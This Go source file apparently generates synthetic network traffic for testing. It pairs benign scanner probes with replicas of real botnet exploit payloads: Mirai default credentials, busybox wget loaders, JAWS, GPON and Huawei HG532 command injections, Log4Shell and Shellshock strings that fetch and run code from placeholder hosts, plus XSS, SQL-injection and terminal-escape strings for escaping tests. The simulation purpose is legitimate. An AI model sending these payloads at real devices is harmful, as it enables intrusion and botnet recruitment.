package synth

import (
	"bytes"
	"strconv"
	"strings"
)

// A template is a payload with "{HOST}" markers that are replaced by the
// destination address (dotted quad) when the packet is written. Templates
// are split once at setup so the hot loop only copies bytes.
type template struct {
	parts   [][]byte
	exploit bool // payload carries one of the exploit patterns
}

func newTemplate(s string, exploit bool) template {
	raw := bytes.Split([]byte(s), []byte("{HOST}"))
	return template{parts: raw, exploit: exploit}
}

// put writes the payload at b (which must have room) and returns its length.
func (t *template) put(b []byte, dst uint32) int {
	n := copy(b, t.parts[0])
	for _, p := range t.parts[1:] {
		n += putDotted(b[n:], dst)
		n += copy(b[n:], p)
	}
	return n
}

// putDotted writes a dotted-quad IPv4 address without allocating.
func putDotted(b []byte, a uint32) int {
	n := 0
	for i := 3; i >= 0; i-- {
		n += len(strconv.AppendUint(b[n:n], uint64(byte(a>>(8*i))), 10))
		if i > 0 {
			b[n] = '.'
			n++
		}
	}
	return n
}

// Exploit payload kinds (one per exploit source; a source is one botnet).
const (
	exTelnet = iota // Mirai-family telnet loader
	exJAWS          // JAWS DVR "GET /shell?cd+/tmp;wget+..."
	exGPON          // GPON router diag_Form command injection
	exHuawei        // Huawei HG532 /ctrlt/DeviceUpgrade_1 (CVE-2017-17215)
	exLog4j         // Log4Shell in a User-Agent
	exShock         // Shellshock in a User-Agent
	numExploits
)

// exploitPorts lists the destination ports of each exploit kind.
var exploitPorts = [numExploits][]uint16{
	exTelnet: {23, 23, 23, 23, 2323},
	exJAWS:   {80, 80, 81, 8080, 60001},
	exGPON:   {8080, 8080, 80},
	exHuawei: {37215},
	exLog4j:  {80, 8080, 8983, 9200, 443},
	exShock:  {80, 80, 8080},
}

var arches = []string{"arm", "arm7", "mips", "mpsl", "x86", "ppc", "m68k", "sh4"}

// miraiCreds are user/password pairs from the leaked Mirai scanner table.
var miraiCreds = [][2]string{
	{"root", "xc3511"}, {"root", "vizxv"}, {"root", "admin"}, {"admin", "admin"},
	{"root", "888888"}, {"root", "xmhdipc"}, {"root", "default"}, {"root", "juantech"},
	{"root", "123456"}, {"root", "54321"}, {"support", "support"}, {"root", ""},
	{"admin", "password"}, {"root", "root"}, {"root", "12345"}, {"user", "user"},
	{"admin", ""}, {"root", "pass"}, {"admin", "admin1234"}, {"root", "1111"},
	{"admin", "smcadmin"}, {"admin", "1111"}, {"root", "666666"}, {"root", "password"},
	{"root", "1234"}, {"root", "klv123"}, {"Administrator", "admin"}, {"service", "service"},
	{"supervisor", "supervisor"}, {"guest", "guest"}, {"guest", "12345"}, {"admin1", "password"},
}

// payloadSet holds every template, built once per Write.
type payloadSet struct {
	creds      []template              // "user\r\n", "pass\r\n" pairs, benign
	telnetEn   template                // enable/system/shell/sh/busybox probe
	telnetLoad []template              // per-architecture wget loader line
	http       [numExploits][]template // per exploit kind (index exTelnet unused)
	probes     [numProbes][]template   // benign application probes
	udp        map[uint16][]template   // benign UDP payloads by port
	udpPorts   []uint16                // ports with payloads, for weighting
	udpWeights []float64               // weights of udpPorts
	pingLinux  []byte                  // 48 bytes after an 8-byte timestamp
	pingWin    []byte                  // Windows ping payload
	all        []*template             // every template, for tests
}

// Benign probe kinds.
const (
	prHTTP = iota
	prSSH
	prRDP
	prTLS
	prRedis
	prSMB
	numProbes
)

var probePorts = [numProbes][]uint16{
	prHTTP:  {80, 80, 80, 8080, 8000, 8088, 81, 8888, 5000, 8081, 9000, 7001},
	prSSH:   {22, 22, 22, 2222},
	prRDP:   {3389},
	prTLS:   {443, 443, 8443, 4443, 10443},
	prRedis: {6379},
	prSMB:   {445},
}

func buildPayloads(hostile bool) *payloadSet {
	p := &payloadSet{}
	for _, c := range miraiCreds {
		p.creds = append(p.creds, newTemplate(c[0]+"\r\n", false), newTemplate(c[1]+"\r\n", false))
	}
	p.telnetEn = newTemplate("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", true)
	for i, a := range arches {
		host := "198.51.100." + strconv.Itoa(20+i*7)
		p.telnetLoad = append(p.telnetLoad, newTemplate(
			"/bin/busybox wget http://"+host+"/bins/"+a+" -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet."+a+"; /bin/busybox IHCCE\r\n", true))
	}
	for i, a := range arches[:4] {
		host := "203.0.113." + strconv.Itoa(45+i)
		p.http[exJAWS] = append(p.http[exJAWS], newTemplate(
			"GET /shell?cd+/tmp;wget+http://"+host+"/bins/"+a+";chmod+777+"+a+";./"+a+"+jaws HTTP/1.1\r\n"+
				"User-Agent: Hello, world\r\nHost: {HOST}:80\r\n"+
				"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nConnection: keep-alive\r\n\r\n", true))
	}
	for _, host := range []string{"203.0.113.7:8000", "198.51.100.61:8080"} {
		body := "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://" + host + "/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0"
		p.http[exGPON] = append(p.http[exGPON], newTemplate(
			"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: keep-alive\r\n"+
				"Accept-Encoding: gzip, deflate\r\nAccept: */*\r\nUser-Agent: Hello, World\r\n"+
				"Content-Length: "+strconv.Itoa(len(body))+"\r\n\r\n"+body, true))
	}
	for _, host := range []string{"198.51.100.9", "203.0.113.90"} {
		body := `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">` +
			`<s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">` +
			`<NewStatusURL>$(/bin/busybox wget -g ` + host + ` -l /tmp/.oxy -r /okiru.mips; /bin/busybox chmod 777 /tmp/.oxy; /tmp/.oxy huawei.rep)</NewStatusURL>` +
			`<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>`
		p.http[exHuawei] = append(p.http[exHuawei], newTemplate(
			"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: "+strconv.Itoa(len(body))+"\r\nConnection: keep-alive\r\nAccept: */*\r\n"+
				`Authorization: Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"`+
				"\r\n\r\n"+body, true))
	}
	for _, v := range []string{
		"${jndi:ldap://198.51.100.77:1389/Basic/Command/Base64/ZWNobyBoZWxsbw==}",
		"${jndi:ldap://203.0.113.15:1389/Exploit}",
		"${jndi:ldap://{HOST}.c6340b92d1.example.net/a}",
	} {
		p.http[exLog4j] = append(p.http[exLog4j], newTemplate(
			"GET / HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: "+v+"\r\nAccept: */*\r\nConnection: close\r\n\r\n", true))
	}
	for _, path := range []string{"/cgi-bin/status", "/cgi-bin/test-cgi", "/cgi-bin/bash"} {
		p.http[exShock] = append(p.http[exShock], newTemplate(
			"GET "+path+" HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: () { :;}; /bin/bash -c \"cd /var/tmp;wget http://203.0.113.50/ss.sh;sh ss.sh\"\r\n"+
				"Accept: */*\r\nConnection: close\r\n\r\n", true))
	}
	if hostile {
		addHostilePayloads(p)
	}

	// Benign probes: what research scanners and crawlers send after a SYN.
	p.probes[prHTTP] = []template{
		newTemplate("GET / HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n", false),
		newTemplate("GET / HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate\r\nConnection: close\r\n\r\n", false),
		newTemplate("GET /favicon.ico HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)\r\nAccept: */*\r\n\r\n", false),
		newTemplate("GET /robots.txt HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\nAccept: text/html\r\n\r\n", false),
		newTemplate("HEAD / HTTP/1.0\r\n\r\n", false),
	}
	p.probes[prSSH] = []template{
		newTemplate("SSH-2.0-Go\r\n", false),
		newTemplate("SSH-2.0-libssh2_1.10.0\r\n", false),
		newTemplate("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n", false),
	}
	rdpCookie := "Cookie: mstshash=Administr\r\n"
	rdp := []byte{0x03, 0x00, 0x00, 0x00, 0x00, 0xe0, 0x00, 0x00, 0x00, 0x00, 0x00}
	rdp = append(rdp, rdpCookie...)
	rdp = append(rdp, 0x01, 0x00, 0x08, 0x00, 0x03, 0x00, 0x00, 0x00)
	rdp[3] = byte(len(rdp))
	rdp[4] = byte(len(rdp) - 5)
	p.probes[prRDP] = []template{newTemplate(string(rdp), false)}
	p.probes[prTLS] = []template{newTemplate(string(clientHello()), false)}
	p.probes[prRedis] = []template{
		newTemplate("*1\r\n$4\r\nINFO\r\n", false),
		newTemplate("PING\r\n", false),
	}
	smb := []byte{0x00, 0x00, 0x00, 0x00, 0xff, 'S', 'M', 'B', 0x72, 0, 0, 0, 0, 0x18, 0x01, 0x28,
		0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x2f, 0x4b, 0, 0, 0xc5, 0x5e, 0}
	dialects := "\x02NT LM 0.12\x00"
	smb = append(smb, byte(len(dialects)), 0)
	smb = append(smb, dialects...)
	smb[3] = byte(len(smb) - 4)
	p.probes[prSMB] = []template{newTemplate(string(smb), false)}

	// Benign UDP payloads by destination port, weighted like the usual
	// reflection/amplification and discovery probes seen by darknets.
	p.udp = map[uint16][]template{}
	addUDP := func(port uint16, w float64, payloads ...[]byte) {
		for _, b := range payloads {
			p.udp[port] = append(p.udp[port], newTemplate(string(b), false))
		}
		p.udpPorts = append(p.udpPorts, port)
		p.udpWeights = append(p.udpWeights, w)
	}
	addUDP(53, 18, dnsQuery(0x1337, "version.bind", 16, 3), dnsQuery(0xa5c1, "example.com", 255, 1), dnsQuery(0x0d0e, "example.org", 1, 1))
	addUDP(123, 14, append([]byte{0xe3, 0x00, 0x04, 0xfa, 0, 1, 0, 0, 0, 1}, make([]byte, 38)...), []byte{0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0})
	addUDP(161, 10, snmpGet())
	addUDP(1900, 12, []byte("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"))
	addUDP(5060, 9, []byte("OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo;rport\r\nFrom: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\nContact: <sip:nm@nm>\r\nAccept: application/sdp\r\n\r\n"))
	addUDP(11211, 6, []byte("\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"))
	addUDP(137, 6, []byte("\x80\xf0\x00\x10\x00\x01\x00\x00\x00\x00\x00\x00\x20CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x00\x00\x21\x00\x01"))
	addUDP(3702, 4, []byte("<:/>"))
	addUDP(10001, 4, []byte{0x01, 0x00, 0x00, 0x00})
	addUDP(5353, 3, dnsQuery(0, "_services._dns-sd._udp.local", 12, 1))
	addUDP(19, 2, []byte{0x01})
	addUDP(27015, 2, []byte("\xff\xff\xff\xffTSource Engine Query\x00"))
	addUDP(111, 2, []byte{0x72, 0xfe, 0x1d, 0x13, 0, 0, 0, 0, 0, 0, 0, 2, 0, 1, 0x86, 0xa0, 0, 0, 0, 2, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0})
	addUDP(389, 2, cldapRootDSE())
	addUDP(500, 2, append([]byte{0x21, 0x0e, 0x9b, 0x4d, 0x59, 0x6f, 0x2a, 0x10, 0, 0, 0, 0, 0, 0, 0, 0, 0x01, 0x10, 0x02, 0x00, 0, 0, 0, 0, 0, 0, 0, 0x1c}, 0, 0, 0, 0))

	p.pingLinux = make([]byte, 48)
	for i := range p.pingLinux {
		p.pingLinux[i] = byte(0x10 + i)
	}
	p.pingWin = []byte("abcdefghijklmnopqrstuvwabcdefghi")

	p.all = append(p.all, &p.telnetEn)
	for i := range p.creds {
		p.all = append(p.all, &p.creds[i])
	}
	for i := range p.telnetLoad {
		p.all = append(p.all, &p.telnetLoad[i])
	}
	for k := range p.http {
		for i := range p.http[k] {
			p.all = append(p.all, &p.http[k][i])
		}
	}
	for k := range p.probes {
		for i := range p.probes[k] {
			p.all = append(p.all, &p.probes[k][i])
		}
	}
	for _, port := range p.udpPorts {
		for i := range p.udp[port] {
			p.all = append(p.all, &p.udp[port][i])
		}
	}
	return p
}

// dnsQuery returns a DNS query with recursion desired for name/qtype/qclass.
func dnsQuery(id uint16, name string, qtype, qclass uint16) []byte {
	b := []byte{byte(id >> 8), byte(id), 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	if id == 0 {
		b[2] = 0 // mDNS: no recursion
	}
	for _, label := range bytes.Split([]byte(name), []byte(".")) {
		b = append(b, byte(len(label)))
		b = append(b, label...)
	}
	return append(b, 0, byte(qtype>>8), byte(qtype), byte(qclass>>8), byte(qclass))
}

// snmpGet returns an SNMPv2c GetRequest for sysDescr.0 with community "public".
func snmpGet() []byte {
	oid := []byte{0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00}
	varbind := append(append([]byte{0x30, byte(len(oid) + 2)}, oid...), 0x05, 0x00)
	vbl := append([]byte{0x30, byte(len(varbind))}, varbind...)
	pdu := append([]byte{0x02, 0x04, 0x2f, 0x1d, 0x5a, 0x01, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}, vbl...)
	pdu = append([]byte{0xa0, byte(len(pdu))}, pdu...)
	msg := append([]byte{0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c'}, pdu...)
	return append([]byte{0x30, byte(len(msg))}, msg...)
}

// cldapRootDSE returns a connectionless LDAP search for the root DSE.
func cldapRootDSE() []byte {
	filter := []byte{0x87, 0x0b, 'o', 'b', 'j', 'e', 'c', 't', 'c', 'l', 'a', 's', 's'}
	search := append([]byte{0x04, 0x00, 0x0a, 0x01, 0x00, 0x0a, 0x01, 0x00, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x01, 0x01, 0x00}, filter...)
	search = append(search, 0x30, 0x00)
	op := append([]byte{0x63, byte(len(search))}, search...)
	msg := append([]byte{0x02, 0x01, 0x01}, op...)
	return append([]byte{0x30, byte(len(msg))}, msg...)
}

// clientHello returns a minimal TLS 1.2 ClientHello without SNI.
func clientHello() []byte {
	body := []byte{0x03, 0x03}
	for i := 0; i < 32; i++ {
		body = append(body, byte(i*37+11))
	}
	body = append(body, 0x00)                                                       // session id
	body = append(body, 0x00, 0x08, 0xc0, 0x2f, 0xc0, 0x2b, 0x00, 0x9c, 0x00, 0x2f) // ciphers
	body = append(body, 0x01, 0x00)                                                 // compression
	ext := []byte{0x00, 0x0a, 0x00, 0x06, 0x00, 0x04, 0x00, 0x17, 0x00, 0x1d,       // groups
		0x00, 0x0d, 0x00, 0x06, 0x00, 0x04, 0x04, 0x01, 0x04, 0x03} // signature algorithms
	body = append(body, byte(len(ext)>>8), byte(len(ext)))
	body = append(body, ext...)
	hs := append([]byte{0x01, 0x00, byte(len(body) >> 8), byte(len(body))}, body...)
	return append([]byte{0x16, 0x03, 0x01, byte(len(hs) >> 8), byte(len(hs))}, hs...)
}

// addHostilePayloads adds exploit payloads that also carry markup, script
// and control characters in their request line, headers and user agent
// (Config.Hostile): each still holds its exploit pattern, so it counts as
// exploit traffic, and every page that shows a payload excerpt must escape
// it.
func addHostilePayloads(p *payloadSet) {
	p.http[exJAWS] = append(p.http[exJAWS], newTemplate(
		"GET /shell?cd+/tmp;wget+http://203.0.113.45/<script>alert(1)</script>;sh+x HTTP/1.1\r\n"+
			"User-Agent: \"><img src=x onerror=alert(1)>\r\nHost: {HOST}:80\r\n"+
			"Referer: javascript:alert(document.cookie)\r\nConnection: close\r\n\r\n", true))
	p.http[exLog4j] = append(p.http[exLog4j], newTemplate(
		"GET /?q=</textarea><svg/onload=alert(1)> HTTP/1.1\r\nHost: {HOST}\r\n"+
			"User-Agent: ${jndi:ldap://198.51.100.77:1389/<script>alert(2)</script>}\r\n"+
			"X-Note: nul\x00byte \x1b[31;1mred\x1b[0m\x1b]0;pwned\x07 \u202etxt.exe\r\nAccept: */*\r\n\r\n", true))
	p.http[exShock] = append(p.http[exShock], newTemplate(
		"GET /cgi-bin/test-cgi HTTP/1.1\r\nHost: {HOST}\r\n"+
			"User-Agent: () { :;}; echo '<script>alert(3)</script>' \"{{.}}\" '; DROP TABLE sessions; --\r\n"+
			"X-Long: "+strings.Repeat("A", 1200)+"<img src=x onerror=alert(4)>\r\nConnection: close\r\n\r\n", true))
}
